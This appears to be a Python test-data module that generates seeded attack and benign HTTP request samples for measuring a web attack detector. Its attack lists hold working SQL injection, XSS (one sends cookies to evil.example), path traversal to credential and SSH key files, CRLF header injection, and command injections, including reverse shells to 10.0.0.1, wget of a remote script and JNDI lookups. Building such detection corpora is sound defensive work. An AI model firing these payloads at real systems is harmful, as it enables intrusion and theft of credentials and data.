"""Attack and benign requests, written for asgisec, to measure detection and false positives.

Each sample is a :class:`Sample`: where the value travels (a query parameter, the path, the
User-Agent, a JSON or form body) and the value as the client would write it before encoding.
Attacks come from the payload families public tools send (sqlmap's boundaries and
techniques, XSS filter-evasion cheat sheets, dotdotpwn's traversal forms, commix's
separators, CRLF response splitting, scanner default user agents), each in the encodings an
evasion would use (raw, percent, double-percent, ``+`` for spaces, mixed case, comments).
The benign side is what a real API sees: people's names with apostrophes, prose that says
"select", "union" or "drop", product names with punctuation, addresses, dates, URLs, search
queries, JSON bodies and the user agents of browsers, bots and command-line clients.

Variety is generated from hand-written parts with a seeded ``random.Random``, so the corpus
is the same on every run and ``scripts/detection_report.py`` can publish stable numbers.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from urllib.parse import quote

__all__ = ["ATTACKS", "BENIGN", "Sample"]

LOCATIONS = ("query", "path", "user_agent", "json", "form", "referer")


@dataclass(frozen=True)
class Sample:
    category: str  # the attack category, or "benign"
    location: str  # one of LOCATIONS
    value: str  # as written; encoded as the location requires when sent
    name: str = "q"  # the parameter or field name (query, json, form)
    encoding: str = "plain"  # plain | percent | double | plus (query and path only)

    def query_string(self) -> bytes:
        if self.encoding == "percent":
            value = quote(self.value, safe="")
        elif self.encoding == "double":
            value = quote(quote(self.value, safe=""), safe="")
        elif self.encoding == "plus":
            value = quote(self.value, safe="").replace("%20", "+")
        else:  # what a browser sends for a typed value: reserved characters encoded
            value = quote(self.value, safe="/:@!$'()*,;~")
        return f"{self.name}={value}".encode()


_rng = random.Random(20261204)
_PARAMS = ("q", "id", "search", "name", "file", "page", "user", "item", "redirect", "cat")


def _pick(options: tuple[str, ...] | list[str]) -> str:
    return options[_rng.randrange(len(options))]


def _case(text: str) -> str:
    """rAnDoM case, as evasions do."""
    return "".join(ch.upper() if _rng.random() < 0.5 else ch.lower() for ch in text)


def _spread(category: str, payloads: list[str], locations: tuple[str, ...]) -> list[Sample]:
    samples = []
    for payload in payloads:
        location = _pick(locations)
        encoding = _pick(("plain", "percent", "double", "plus")) if location == "query" else "plain"
        samples.append(Sample(category, location, payload, _pick(_PARAMS), encoding))
    return samples


# ------------------------------------------------------------------------------- SQL injection

_SQL_PREFIX = ("'", '"', "1'", "1", "')", "1)", "admin'", "-1'", "x'", '1"', "')) ")
_SQL_TAILS = ("--", "-- -", "#", "/*", "")


def _sqli() -> list[str]:
    out: list[str] = []
    cores = [
        "{p} OR 1=1{t}",
        "{p} OR '1'='1",
        "{p} or 'a'='a",
        '{p} OR ""="',
        "{p} AND 1=2{t}",
        "{p} AND 1=1{t}",
        "{p} UNION SELECT NULL{t}",
        "{p} UNION SELECT NULL,NULL,NULL{t}",
        "{p} UNION ALL SELECT 1,2,3{t}",
        "{p} UNION SELECT username,password FROM users{t}",
        "{p} UNION SELECT @@version{t}",
        "{p} AND SLEEP(5){t}",
        "{p} OR SLEEP(5){t}",
        "{p}; WAITFOR DELAY '0:0:5'{t}",
        "{p} AND (SELECT 1 FROM (SELECT(SLEEP(5)))a){t}",
        "{p}; DROP TABLE users{t}",
        "{p}; SELECT pg_sleep(5){t}",
        "{p} AND extractvalue(1,concat(0x7e,version())){t}",
        "{p} AND updatexml(1,concat(0x7e,(SELECT user())),1){t}",
        "{p} ORDER BY 3{t}",
        "{p} GROUP BY 1 HAVING 1=1{t}",
        "{p} AND 1=(SELECT COUNT(*) FROM information_schema.tables){t}",
        "{p} OR 1=1 LIMIT 1{t}",
        "{p}||(SELECT 1)||'",
        "{p} AND ASCII(SUBSTRING((SELECT database()),1,1))>64{t}",
        "{p} AND BENCHMARK(5000000,MD5(1)){t}",
        "{p}; EXEC xp_cmdshell('dir'){t}",
        "{p} UNION SELECT table_name FROM information_schema.tables{t}",
        "{p} AND 1=CAST((SELECT version()) AS int){t}",
        "{p} OR 2>1{t}",
        "{p} OR true{t}",
        "{p} RLIKE (SELECT 1){t}",
        "{p} AND IF(1=1,SLEEP(5),0){t}",
        "{p} UNION SELECT LOAD_FILE('/etc/passwd'){t}",
        "{p} INTO OUTFILE '/tmp/x'{t}",
        "{p} AND (SELECT CASE WHEN (1=1) THEN 1 ELSE 0 END)=1{t}",
    ]
    for core in cores:
        for _ in range(6):
            payload = core.format(p=_pick(_SQL_PREFIX), t=_pick(_SQL_TAILS))
            style = _rng.randrange(4)
            if style == 1:
                payload = _case(payload)
            elif style == 2:
                payload = payload.replace(" ", "/**/")
            elif style == 3:
                payload = payload.replace(" ", "\n") if _rng.random() < 0.5 else payload
            out.append(payload)
    out += [
        "1 UnIoN SeLeCt 1,2",
        "1/**/UNION/**/SELECT/**/1",
        "' ||(select 1)||'",
        "1' /*!50000union*/ /*!50000select*/ 1,2-- -",
        "admin'--",
        "admin' #",
        "' or ''='",
        "1; SHUTDOWN--",
        "1' AND CHAR(65,66,67)='ABC",
        "%' AND 1=1 AND '%'='",
        "1) OR (1=1",
        "') OR ('a'='a",
        "1 AND 1=1",
        "-1 UNION SELECT 1,group_concat(table_name),3 FROM information_schema.tables",
        "' UNION SELECT NULL,NULL FROM DUAL--",
        "1';DECLARE @x varchar(99);SET @x=0x77;EXEC(@x)--",
        "' AND 1=utl_inaddr.get_host_address((SELECT banner FROM v$version WHERE rownum=1))--",
        "' OR 1=1 INTO OUTFILE '/var/www/x.php'--",
    ]
    return out


# ------------------------------------------------------------------------------- XSS


def _xss() -> list[str]:
    calls = (
        "alert(1)",
        "alert(document.cookie)",
        "prompt(1)",
        "confirm`1`",
        "alert(origin)",
        "eval(atob('YWxlcnQoMSk='))",
        "fetch('//evil.example/'+document.cookie)",
    )
    templates = [
        "<script>{c}</script>",
        "<ScRiPt>{c}</sCrIpT>",
        "<script src=//evil.example/x.js></script>",
        "<img src=x onerror={c}>",
        '<img src=x onerror="{c}">',
        "<svg onload={c}>",
        "<svg/onload={c}>",
        "<body onload={c}>",
        '<iframe src="javascript:{c}"></iframe>',
        '<a href="javascript:{c}">click</a>',
        "javascript:{c}",
        '"><script>{c}</script>',
        "'><img src=x onerror={c}>",
        '" onmouseover="{c}',
        "' autofocus onfocus='{c}",
        "<details open ontoggle={c}>",
        '<video><source onerror="{c}">',
        "<input autofocus onfocus={c}>",
        "<marquee onstart={c}>",
        '<object data="javascript:{c}">',
        '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
        "';{c};//",
        '";{c};//',
        "</title><script>{c}</script>",
        "<math><mtext><table><mglyph><style><img src=x onerror={c}>",
        "&lt;script&gt;{c}&lt;/script&gt;",
        "&#60;img src=x onerror={c}&#62;",
        '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
        '<a href="jav&#x09;ascript:{c}">x</a>',
        '<div style="background:url(javascript:{c})">',
        "<style>@import 'http://evil.example/x.css';</style>",
        "{{{{constructor.constructor('{c}')()}}}}",
        "<form action=javascript:{c}><input type=submit>",
        '<base href="http://evil.example/">',
        '<meta http-equiv="refresh" content="0;url=javascript:{c}">',
        "<svg><animate onbegin={c} attributeName=x dur=1s>",
    ]
    out = []
    for template in templates:
        for _ in range(8):
            payload = template.format(c=_pick(calls))
            if _rng.random() < 0.3:
                payload = _case(payload)
            out.append(payload)
    return out


# ------------------------------------------------------------------------------- traversal


def _traversal() -> list[str]:
    targets = (
        "etc/passwd",
        "etc/shadow",
        "etc/hosts",
        "proc/self/environ",
        "windows/win.ini",
        "boot.ini",
        "var/www/html/wp-config.php",
        "etc/group",
        "proc/self/cmdline",
        "root/.ssh/id_rsa",
        "app/.env",
        "home/app/.aws/credentials",
    )
    ups = (
        "../",
        "..\\",
        "..%2f",
        "..%5c",
        "%2e%2e/",
        "%2e%2e%2f",
        "..%252f",
        "%252e%252e%252f",
        "..;/",
        "%c0%ae%c0%ae/",
        "..%c0%af",
        "%uff0e%uff0e/",
        "....//",
        "..%00/",
        ".%2e/",
        "%%32%65%%32%65/",
        "..\\/",
    )
    out = []
    for _ in range(260):
        depth = _rng.randrange(1, 8)
        up = _pick(ups)
        target = _pick(targets)
        if "\\" in up and _rng.random() < 0.5:
            target = target.replace("/", "\\")
        prefix = _pick(
            ("", "", "/var/www/images/", "static/", "file:///", "php://filter/resource=")
        )
        out.append(prefix + up * depth + target)
    out += [
        "/etc/passwd",
        "/etc/passwd%00.png",
        "C:\\Windows\\win.ini",
        "file:///etc/passwd",
        "php://filter/convert.base64-encode/resource=index.php",
        "/proc/self/environ",
        "..%252f..%252fetc%252fpasswd",
        "/.git/config",
        "/.env",
        "/.git/HEAD",
        "/.htpasswd",
        "/.aws/credentials",
        "/wp-config.php.bak",
        "/server-status",
        "/.svn/entries",
        "/.DS_Store",
        "/web.config",
        "/..;/admin",
        "/static/..%2f..%2fetc/passwd",
    ]
    return out


# ------------------------------------------------------------------------------- commands


def _cmdi() -> list[str]:
    seps = (";", "|", "||", "&", "&&", "\n", "`", "$(")
    commands = (
        "id",
        "whoami",
        "uname -a",
        "cat /etc/passwd",
        "ls -la /",
        "sleep 5",
        "ping -c 3 10.0.0.1",
        "wget http://evil.example/x.sh",
        "curl http://evil.example",
        "nc -e /bin/sh 10.0.0.1 4444",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "cat${IFS}/etc/passwd",
        "echo vulnerable",
        "nslookup evil.example",
        "powershell -enc SQBFAFgA",
        "cmd.exe /c dir",
        "type C:\\Windows\\win.ini",
        "python -c 'import os'",
        "rm -rf /tmp/x",
        "/bin/sh -c id",
        "perl -e 'print 1'",
    )
    out = []
    for _ in range(300):
        sep = _pick(seps)
        command = _pick(commands)
        base = _pick(("127.0.0.1", "8.8.8.8", "example.com", "file.txt", "", "1"))
        if sep == "`":
            out.append(f"{base}`{command}`")
        elif sep == "$(":
            out.append(f"{base}$({command})")
        else:
            out.append(f"{base}{sep}{command}")
    out += [
        "() { :; }; /bin/bash -c 'cat /etc/passwd'",
        "${jndi:ldap://evil.example/a}",
        "${${lower:j}ndi:ldap://evil.example/a}",
        "${jndi:dns://evil.example/x}",
        "1;${IFS}id",
        "x||ping -c 10 127.0.0.1||",
    ]
    return out


# ------------------------------------------------------------------------------- CRLF


def _crlf() -> list[str]:
    breaks = ("\r\n", "\n", "\r", "\r\n\r\n", "\u560a\u560d")
    headers = (
        "Set-Cookie: session=attacker",
        "Location: https://evil.example/",
        "X-Injected: 1",
        "Content-Length: 0",
        "Content-Type: text/html",
        "Access-Control-Allow-Origin: *",
        "Refresh: 0; url=https://evil.example/",
        "Set-Cookie:admin=true",
        "Content-Security-Policy: default-src *",
    )
    out = []
    for _ in range(240):
        lead = _pick(("", "en", "/", "home", "x", "https://example.com/"))
        brk = _pick(breaks)
        header = _pick(headers)
        if _rng.random() < 0.2:
            out.append(f"{lead}{brk}{header}\r\n\r\n<html>injected</html>")
        else:
            out.append(f"{lead}{brk}{header}")
    out += ["%0d%0aSet-Cookie: x=1", "\r\n\r\n<script>alert(1)</script>"]
    return out


# ------------------------------------------------------------------------------- scanners


def _scanners() -> list[str]:
    agents = [
        "sqlmap/1.8.2#stable (https://sqlmap.org)",
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        "sqlmap/1.{v}#dev (http://sqlmap.org)",
        "SQLMap",
        "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:{n})",
        "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:map_codes)",
        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        "Mozilla/5.0 (compatible; Nuclei/3.{v})",
        "Havij",
        "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; Havij)",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/120.0.0.0 Safari/537.36 Acunetix/{v}",
        "acunetix_wvs_security_test",
        "Arachni/v1.{v}",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        "Nmap NSE",
        "Mozilla/5.0 (X11; Linux x86_64) WPScan v3.8.{v} (https://wpscan.com/wordpress-security-scanner)",
        "WPScan v3.8.22 (https://wpscan.org/)",
        "Fuzz Faster U Fool v2.1.0-dev",
        "ffuf/2.{v}",
        "gobuster/3.{v}",
        "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
        "Mozilla/5.0 (compatible; Dirb)",
        "Wfuzz/3.1.0",
        "w3af.org",
        "Mozilla/5.0 (compatible; Nessus SOAP v0.0.1 (Nessus.org))",
        "Nessus/{v}",
        "OpenVAS-VT",
        "Mozilla/5.0 (compatible; OpenVAS/{v})",
        "Mozilla/5.0 (X11; U; Linux i686; en-US) Netsparker/{v}",
        "Mozilla/4.0 (compatible; MSIE 6.0; Win32) AppScan",
        "Mozilla/5.0 WhatWeb/0.5.{v}",
        "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
        "Mozilla/5.0 zgrab/0.x",
        "ZmEu",
        "Mozilla/5.0 (compatible; Vega/1.0)",
        "commix/v3.{v}-stable (https://commixproject.com)",
        "Mozilla/5.0 (Windows; skipfish)",
        "feroxbuster/2.{v}",
        "Jorgee",
        "Mozilla/5.0 Jaeles",
        "XSStrike",
        "sqlninja",
        "Morfeus Fucking Scanner",
        "Mozilla/4.0 (compatible; HP WebInspect)",
        "struts-pwn",
        "dotdotpwn",
        "Mozilla/5.0 (compatible; joomscan)",
        "droopescan",
    ]
    out = []
    for agent in agents:
        for _ in range(5):
            text = agent.format(v=_rng.randrange(0, 30), n=f"{_rng.randrange(1, 999999):06d}")
            if _rng.random() < 0.2:
                text = _case(text)
            out.append(text)
    return out


ATTACKS: list[Sample] = [
    *_spread("sqli", _sqli(), ("query", "query", "query", "json", "form")),
    *_spread("xss", _xss(), ("query", "query", "json", "form", "referer")),
    *_spread("traversal", _traversal(), ("query", "query", "path", "json")),
    *_spread("cmdi", _cmdi(), ("query", "query", "json", "form")),
    *_spread("crlf", _crlf(), ("query", "query", "path")),
    *[Sample("scanner", "user_agent", agent) for agent in _scanners()],
]


# ------------------------------------------------------------------------------- benign

_FIRST = (
    "Liam",
    "Olivia",
    "Noah",
    "Emma",
    "Seán",
    "Zoë",
    "José",
    "François",
    "Ngozi",
    "Aarav",
    "Mei",
    "Yuki",
    "Oluwaseun",
    "Siobhán",
    "Björn",
    "Ana-María",
    "D'Andre",
    "Jean-Luc",
    "Maria",
    "Chen",
    "Fatima",
    "Dmitri",
    "Ava",
    "Mohammed",
    "Priya",
    "Kai",
    "Léa",
)
_LAST = (
    "O'Brien",
    "O'Connor",
    "D'Angelo",
    "McDonald",
    "Smith-Jones",
    "van der Berg",
    "Müller",
    "García",
    "Nguyen",
    "O'Neill",
    "Dell'Acqua",
    "L'Estrange",
    "Ó Súilleabháin",
    "Zhang",
    "Kowalski",
    "St. John",
    "Al-Farsi",
    "de la Cruz",
    "MacLeod",
    "N'Diaye",
    "Ng",
)
_PROSE = (
    "select a plan",
    "4. Select Medicare Plan Appeals and Grievances form online",
    "please select your country from the list",
    "Select the best option for your team",
    "union station to the airport",
    "European Union trade policy",
    "the union selected a new president",
    "credit union near me",
    "drop shipping suppliers",
    "drop the beat",
    "how to drop a table in excel",
    "where can I delete my account",
    "update my address please",
    "insert coin to continue",
    "order by phone or online",
    "Conan O'Brien's podcast",
    "yes, bob's",
    "it's a dog's life",
    "rock 'n' roll",
    "Yahoo! (Y!)",
    "wait... what",
    "report..final.pdf",
    "The script for the school play",
    "movie script writing tips",
    "alert me when the price drops",
    "set up an alert for my flight",
    "confirm my booking",
    "prompt delivery guaranteed",
    "I'd like to exec a plan; then we talk",
    "cat food for senior cats",
    "dogs; cats and birds",
    "salt & pepper",
    "Tom & Jerry",
    "AT&T fiber plans",
    "Q&A session at 5",
    "R&D budget 2026",
    "black & decker drill",
    "tea; coffee; juice",
    "ping pong table",
    "sleep 8 hours a night",
    "how to sleep better",
    "echo dot 5th gen",
    "curl your hair without heat",
    "python for beginners",
    "bash birthday party ideas",
    "type of cheese for pizza",
    "the 'best' option -- really",
    "50% off everything",
    "100% cotton t-shirt",
    "2+2=4",
    "x > 3 and y < 5",
    "is 1 = 1 always true?",
    "price between 10 and 20",
    "C++ Primer (5th Edition)",
    "C# in Depth",
    "Ben & Jerry's Cherry Garcia",
    "3M™ Scotch-Brite™ Heavy Duty",
    "Dr. Martens 1460 8-Eye",
    "Levi's 501® Original Fit",
    "L'Oréal Paris Revitalift",
    "Guns N' Roses - Appetite for Destruction",
    "Macy's Thanksgiving parade",
    'Toys"R"Us',
    "Häagen-Dazs",
    "Procter & Gamble",
    "Marks & Spencer",
    "McDonald's near me",
    "Johnson & Johnson",
    "O'Reilly Auto Parts",
    "size: 10.5 (US)",
    "#python #asyncio",
    "email me at jane.doe+news@example.com",
    "call (555) 123-4567",
    "1600 Amphitheatre Pkwy, Mountain View, CA 94043",
    "221B Baker St., London NW1 6XE",
    "Flat 3/2, 14 Rue de l'Église",
    "meeting at 10:30 - 11:15",
    "2026-06-21T12:00:00Z",
    "21/06/2026",
    "June 21st, 2026",
    "https://example.com/path?x=1&y=2",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
    "see the docs/en/latest/index.html page",
    "v1.2.3-beta+build.5",
    "my.file.v2.tar.gz",
    "notes_2026-final(1).docx",
    "\"quoted\" words and 'single' ones",
    "Don't stop me now",
    "I can't select more than one item",
    "Why doesn't UNION work in my spreadsheet?",
    "SQL tutorial: what is a join",
    "best javascript books",
    "JavaScript: The Good Parts",
    "Learn HTML tags and CSS",
    "<3 love it",
    "a < b and c > d",
    'he said "hi" -- then left',
    "What's 5% of 200?",
    "café, naïve, résumé",
    "北京烤鸭 recipe",
    "Привет, как дела?",
    "مرحبا بالعالم",
    "🎉 party time 🎉",
    "ID: 42; ref: ABC-123",
    "Go to Settings > Privacy > Delete history",
    "from: London, to: Paris",
    "select * options apply",
    "or else!",
    "and/or",
    "either/or; both/and",
    "1 or 2 tickets",
    "The Who - Who's Next",
    "You & I (feat. someone)",
    "cd player repair",
    "ls engine swap",
    "id card renewal",
    "net worth of a celebrity",
    "find my phone",
    "more info & pricing",
    "the end.",
)
_SEARCH = (
    "cheap flights to new york",
    "weather tomorrow",
    "best pizza near me",
    "how to tie a tie",
    "solar eclipse 2026 path",
    "python asyncio tutorial",
    "convert 5 km to miles",
    "sunrise time london",
    "nearest pharmacy open now",
    "recipe chicken curry",
    "latitude 51.48 longitude 0.0",
    "iphone 15 pro max case",
    "used cars under $10,000",
    "how many ounces in a cup",
    "who won the world cup 2022",
)
_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.51",
    "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.1; Trident/6.0)",
    "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko",
    "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; .NET CLR 1.1.4322)",
    "Mozilla/5.0 (Linux; U; Android 4.0.3; ja-jp; SH-01D Build/IML74K) AppleWebKit/534.30 "
    "(KHTML, like Gecko) Version/4.0 Mobile Safari/534.30",
    "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)",
    "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "Twitterbot/1.0",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)",
    "Mastodon/4.5.11 (http.rb/5.3.1; +https://veganism.social/)",
    "Mastodon/4.2.8 (http.rb/5.1.1; +https://mastodon.social/)",
    "python-requests/2.32.3",
    "python-httpx/0.27.0",
    "curl/8.5.0",
    "Wget/1.21.4",
    "urlgrabber/3.10 yum/3.4.3",
    "Go-http-client/1.1",
    "Go-http-client/2.0",
    "okhttp/4.12.0",
    "PostmanRuntime/7.37.3",
    "insomnia/2023.5.8",
    "axios/1.6.8",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "Apache-HttpClient/4.5.14 (Java/17.0.10)",
    "Java/17.0.10",
    "Dart/3.3 (dart:io)",
    "aiohttp/3.9.5 Python/3.12",
    "Prometheus/2.51.2",
    "kube-probe/1.29",
    "ELB-HealthChecker/2.0",
    "GoogleHC/1.0",
    "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
    "UptimeRobot/2.0; http://www.uptimerobot.com/",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.0; +https://openai.com/gptbot)",
    "Mozilla/5.0 (Vegas Pro Updater)",
    "VegaBot-like/1.0 (compatible; vegetable.example)",
    "HTTPie/3.2.2",
    "Zoom/5.17 (Macintosh)",
    "Spotify/8.9.32 iOS/17.4 (iPhone15,2)",
)


def _benign() -> list[Sample]:
    samples: list[Sample] = []
    for _ in range(400):
        name = f"{_pick(_FIRST)} {_pick(_LAST)}"
        samples.append(
            Sample(
                "benign",
                _pick(("query", "json", "form")),
                name,
                "name",
                _pick(("plain", "percent", "plus")),
            )
        )
    for text in _PROSE:
        for location in ("query", "json", "form"):
            samples.append(
                Sample(
                    "benign",
                    location,
                    text,
                    _pick(("q", "comment", "title")),
                    _pick(("plain", "percent", "plus")),
                )
            )
    for text in _SEARCH:
        for encoding in ("plain", "percent", "plus"):
            samples.append(Sample("benign", "query", text, "search", encoding))
    for agent in _AGENTS:
        samples.append(Sample("benign", "user_agent", agent))
    for _ in range(150):
        lat, lon = _rng.uniform(-89, 89), _rng.uniform(-179, 179)
        month, day, hour = _rng.randrange(1, 13), _rng.randrange(1, 29), _rng.randrange(24)
        when = f"2026-{month:02d}-{day:02d}T{hour:02d}:00:00Z"
        samples.append(Sample("benign", "json", f"{when}|{lat:.4f}|{lon:.4f}", "time"))
        samples.append(Sample("benign", "query", when, "after", _pick(("plain", "percent"))))
    paths = (
        "/api/calculate",
        "/api/timesolve",
        "/health",
        "/api/v1/users/42",
        "/api/items/select-plan",
        "/blog/2026/06/union-station-review",
        "/static/css/app.min.css",
        "/static/js/app.3f2a1b.js",
        "/images/logo@2x.png",
        "/docs/en/latest/",
        "/files/report..final.pdf",
        "/get/foo../1234",
        "/get/..foo",
        "/users/o'brien",
        "/search/C%2B%2B",
        "/products/ben-%26-jerrys",
        "/.well-known/security.txt",
        "/.well-known/openid-configuration",
        "/favicon.ico",
        "/robots.txt",
        "/api/orders/2026-06-21",
        "/wiki/Rock_%27n%27_roll",
        "/api/drop-off-points",
        "/api/scripts/list",
        "/en-US/docs/Web/JavaScript",
        "/%E5%8C%97%E4%BA%AC/map",
        "/caf%C3%A9/menu",
        "/a/b/c/d/e/f",
        "/api/v2/exec-summary",
    )
    for path in paths:
        samples.append(Sample("benign", "path", path))
    for _ in range(100):
        samples.append(
            Sample(
                "benign",
                "referer",
                f"https://www.google.com/search?q={quote(_pick(_SEARCH))}&hl=en",
            )
        )
        samples.append(
            Sample(
                "benign",
                "query",
                f"https://shop.example/cart?item={_rng.randrange(9999)}&qty=2",
                "redirect",
            )
        )
    return samples


_SUBJECTS = (
    "I",
    "We",
    "My team",
    "The customer",
    "Our union",
    "The school",
    "She",
    "Bob's dad",
    "The admin",
    "Everyone",
    "Mrs O'Hara",
    "The 'new' manager",
    "A friend of mine",
)
_VERBS = (
    "wants to select",
    "will drop",
    "needs to update",
    "can't delete",
    "asked to insert",
    "would like to order",
    "plans to exec",
    "tried to cat-sit",
    "will ping",
    "should echo",
    "forgot to sleep before",
    "had to type",
    "decided to set",
    "won't alert",
    "can confirm",
    "likes to script",
    "wants to join",
    "is going to union with",
    "will grant",
)
_OBJECTS = (
    "a plan from the list",
    "the table by the window",
    "the order by Friday",
    "his old account",
    "a coin and a note",
    "two tickets or three",
    "the 'premium' tier",
    "1 or 2 items",
    "the values 10 and 20",
    "all of it (select one)",
    "the #1 option",
    "the form at 9:30",
    "the report..final version",
    "some C++ code",
    "a 50% share",
    "my neighbour's cat",
    "the file report.pdf",
    "the staff; then leave",
    "you & me",
    "the user (admin) group",
    "the O'Reilly book",
    "x=5 and y=6",
    "a script for the show",
    "the drop-down menu",
    "her résumé",
    "the 2026-06-21 meeting",
    "page 3 of 10",
)
_ENDINGS = (
    "",
    ".",
    "!",
    "?",
    " -- thanks",
    " :)",
    " (asap)",
    "; cheers",
    "...",
    " & more",
    " — really",
    " #urgent",
    " lol",
    " pls",
    " - John",
)


def _sentences() -> list[Sample]:
    samples = []
    for _ in range(700):
        text = f"{_pick(_SUBJECTS)} {_pick(_VERBS)} {_pick(_OBJECTS)}{_pick(_ENDINGS)}"
        location = _pick(("query", "json", "form"))
        encoding = _pick(("plain", "percent", "plus")) if location == "query" else "plain"
        samples.append(Sample("benign", location, text, _pick(("q", "message", "note")), encoding))
    return samples


BENIGN: list[Sample] = [*_benign(), *_sentences()]
